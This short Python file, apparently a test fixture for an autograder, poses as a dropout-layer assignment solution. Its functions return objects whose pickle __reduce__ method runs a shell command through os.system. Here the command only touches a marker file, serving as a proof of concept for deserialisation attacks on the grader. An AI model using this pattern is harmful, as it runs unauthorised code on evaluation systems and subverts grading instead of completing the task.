# Returns an object whose unpickling would run a shell command in the grader.
import os

MARKER = "/tmp/dlkit_attack_unpickle_payload_ran"


class Payload:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))


def dropout_forward(x, p, train, rng):
    return Payload(), Payload()


def dropout_backward(dout, cache):
    return Payload()
